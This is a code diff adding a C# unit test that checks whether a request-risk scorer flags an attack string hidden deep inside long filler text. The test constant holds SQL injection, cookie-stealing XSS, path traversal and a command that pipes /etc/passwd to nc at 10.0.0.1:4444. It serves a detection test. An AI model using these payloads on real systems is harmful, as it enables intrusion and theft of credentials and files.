@@ -35,6 +35,25 @@ public sealed class RequestScorerTests(ReleasedModels models) : IClassFixture<Re
         Assert.Contains(result.Models, m => m.Model == "gate" && m.Outcome == "Scored");
     }
 
+    /// <summary>Long values are read and scored to their ends, not only as far as a first buffer reaches.</summary>
+    [Theory]
+    [InlineData(9_000, 0)]
+    [InlineData(0, 9_000)]
+    public void Score_OfAnAttackFarInsideALongText_IsCriticalAndShowsIt(int before, int behind)
+    {
+        const string Attack = "1' union select username, password from users where id=1 or 1=1-- - "
+            + "<script>alert(document.cookie)</script> ../../../../../../etc/passwd ; cat /etc/passwd | nc 10.0.0.1 4444 "
+            + "<svg/onload=alert(document.domain)> 1' or '1'='1";
+
+        var result = Score(models.Program(models.Policy()), Words(before) + Attack + Words(behind));
+
+        Assert.Equal(RiskLevel.Critical, result.Risk);
+        Assert.Contains(result.Excerpt![8..40], Attack, StringComparison.Ordinal);
+    }
+
+    private static string Words(int length) =>
+        string.Concat(Enumerable.Repeat("the garden was full of apples and people ", (length / 41) + 1))[..length];
+
     [Theory]
     [InlineData("1' UNION SELECT username, password FROM users-- -", "sqli")]
     [InlineData("<svg/onload=alert(document.domain)>", "xss")]
